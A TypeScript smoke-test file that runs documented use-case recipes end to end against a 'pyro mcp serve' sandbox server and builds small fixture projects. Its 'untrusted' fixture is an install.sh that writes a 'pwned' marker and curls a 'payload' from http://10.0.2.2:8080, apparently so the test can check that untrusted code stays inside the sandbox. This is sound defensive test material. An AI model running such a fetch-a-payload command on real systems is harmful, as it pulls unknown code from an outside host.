// `npm run smoke:use-cases`: runs every recipe in docs/use-cases/ end to end, as written. Each
// recipe names its mode and fixture in a front block and carries its tool calls in ```pyro-step
// blocks; this runner starts `pyro mcp serve --mode <mode>` (a real binary, a real MCP SDK client,
// real sandboxes), makes each call in order, and checks the structured result against the step's
// `expect`. A recipe can only use its mode's tools: the server refuses any other.
import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, describe, it } from "node:test";
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StdioClientTransport } from "@modelcontextprotocol/sdk/client/stdio.js";
import { PACKAGE_ROOT } from "../../src/version.js";
import { removeStateDir } from "../helpers/state-dir.js";

const MAIN = join(PACKAGE_ROOT, "dist", "src", "cli", "main.js");
const RECIPES = join(PACKAGE_ROOT, "docs", "use-cases");
const stateDir = mkdtempSync(join(tmpdir(), "pyro-test-smoke-"));
const fixtures = mkdtempSync(join(tmpdir(), "pyro-test-fixtures-"));
after(() => {
  removeStateDir(stateDir);
  rmSync(fixtures, { recursive: true, force: true });
});

interface Step {
  tool: string;
  arguments: Record<string, unknown>;
  /** Fields the structured result must have; {"$match": "re"} tests a string, {"$min": n} a number. */
  expect?: Record<string, unknown>;
  /** Variables to remember from the result: name -> field path (dots). */
  save?: Record<string, string>;
}

interface Recipe {
  file: string;
  mode: string;
  fixture: string;
  steps: Step[];
}

function parseRecipe(file: string): Recipe {
  const text = readFileSync(join(RECIPES, file), "utf8");
  const meta = /<!--\s*smoke:\s*mode=(\S+)\s+fixture=(\S+)\s*-->/.exec(text);
  assert.ok(meta, `${file} has no <!-- smoke: mode=… fixture=… --> line`);
  const steps = [...text.matchAll(/```pyro-step\n([\s\S]*?)```/g)].map((m) => JSON.parse(m[1]!) as Step);
  assert.ok(steps.length > 0, `${file} has no pyro-step blocks`);
  return { file, mode: meta[1]!, fixture: meta[2]!, steps };
}

// ---- fixtures: tiny projects the recipes work on ---------------------------------------------

function makeFixture(name: string): string {
  const dir = join(fixtures, name);
  mkdirSync(dir, { recursive: true });
  const write = (path: string, text: string) => writeFileSync(join(dir, path), text);
  if (name === "calc") {
    write("calc.py", "def add(a, b):\n    return a - b\n");
    write(
      "test_calc.py",
      "import unittest\nfrom calc import add\n\nclass TestAdd(unittest.TestCase):\n    def test_add(self):\n        self.assertEqual(add(2, 3), 5)\n",
    );
    write(
      "README.md",
      "# calc\n\nNo dependencies.\n\n- Test: `python3 -m unittest`\n- Serve the docs: `python3 -m http.server 8000`\n",
    );
  } else if (name === "untrusted") {
    write(
      "install.sh",
      "#!/bin/sh\n# 'installer' of unknown origin\necho pwned > /workspace/marker\ncurl -s -m 3 http://10.0.2.2:8080/payload -o payload || echo 'download failed'\n",
    );
    write("README.md", "Run ./install.sh to install.\n");
  } else {
    throw new Error(`unknown fixture ${name}`);
  }
  return dir;
}

// ---- running a recipe ---------------------------------------------------------------------------

function substitute(value: unknown, vars: Record<string, string>): unknown {
  if (typeof value === "string") return value.replace(/\{\{(\w+)\}\}/g, (_, k: string) => vars[k] ?? `{{${k}}}`);
  if (Array.isArray(value)) return value.map((v) => substitute(v, vars));
  if (value && typeof value === "object") {
    return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, substitute(v, vars)]));
  }
  return value;
}

function at(value: unknown, path: string): unknown {
  return path.split(".").reduce<unknown>((v, key) => (v as Record<string, unknown> | undefined)?.[key], value);
}

/** Objects match on the fields given; arrays element by element (same length); the rest exactly. */
function check(actual: unknown, expected: unknown, where: string): void {
  if (Array.isArray(expected)) {
    assert.ok(Array.isArray(actual), `${where}: expected a list, got ${JSON.stringify(actual)}`);
    assert.equal(actual.length, expected.length, `${where}: ${JSON.stringify(actual)}`);
    for (const [i, item] of expected.entries()) check(actual[i], item, `${where}[${i}]`);
    return;
  }
  if (expected && typeof expected === "object") {
    const e = expected as Record<string, unknown>;
    if ("$match" in e) {
      assert.match(String(actual), new RegExp(String(e.$match)), where);
      return;
    }
    if ("$min" in e) {
      assert.ok(typeof actual === "number" && actual >= Number(e.$min), `${where}: ${actual} < ${e.$min}`);
      return;
    }
    for (const [key, value] of Object.entries(e)) check(at(actual, key), value, `${where}.${key}`);
    return;
  }
  assert.deepEqual(actual, expected, where);
}

async function runRecipe(recipe: Recipe): Promise<void> {
  const transport = new StdioClientTransport({
    command: process.execPath,
    args: [MAIN, "mcp", "serve", "--mode", recipe.mode, "--no-project-source"],
    env: { ...process.env, PYRO_STATE_DIR: stateDir } as Record<string, string>,
    // Started where the user's projects are: the server lets callers name host paths under it.
    cwd: fixtures,
    stderr: "pipe",
  });
  const client = new Client({ name: `smoke-${recipe.mode}`, version: "1" });
  await client.connect(transport);
  const offered = new Set((await client.listTools()).tools.map((t) => t.name));
  const vars: Record<string, string> = { fixture: makeFixture(recipe.fixture) };
  const made: string[] = [];
  try {
    for (const [i, raw] of recipe.steps.entries()) {
      const step = substitute(raw, vars) as Step;
      const where = `${recipe.file} step ${i + 1} (${step.tool})`;
      assert.ok(offered.has(step.tool), `${where}: mode ${recipe.mode} does not offer ${step.tool}`);
      const result = await client.callTool({ name: step.tool, arguments: step.arguments });
      assert.notEqual(result.isError, true, `${where}: ${JSON.stringify(result.content)}`);
      const payload = result.structuredContent;
      if (step.expect) check(payload, step.expect, where);
      for (const [name, path] of Object.entries(step.save ?? {})) vars[name] = String(at(payload, path));
      if (step.tool === "workspace_create") made.push(String(at(payload, "workspace_id")));
    }
  } finally {
    // A recipe deletes its workspaces; a failed one must not leave them behind either.
    for (const workspace of made) await client.callTool({ name: "workspace_delete", arguments: { workspace } });
    await client.close();
  }
}

const files = readdirSync(RECIPES)
  .filter((f) => f.endsWith(".md") && f !== "README.md")
  .sort();

describe("use-case recipes (docs/use-cases), end to end through pyro mcp serve --mode", () => {
  it("there is a recipe for each of the five use cases", () => {
    assert.equal(files.length, 5, files.join(", "));
  });
  for (const file of files) {
    it(file, async () => runRecipe(parseRecipe(file)));
  }
});
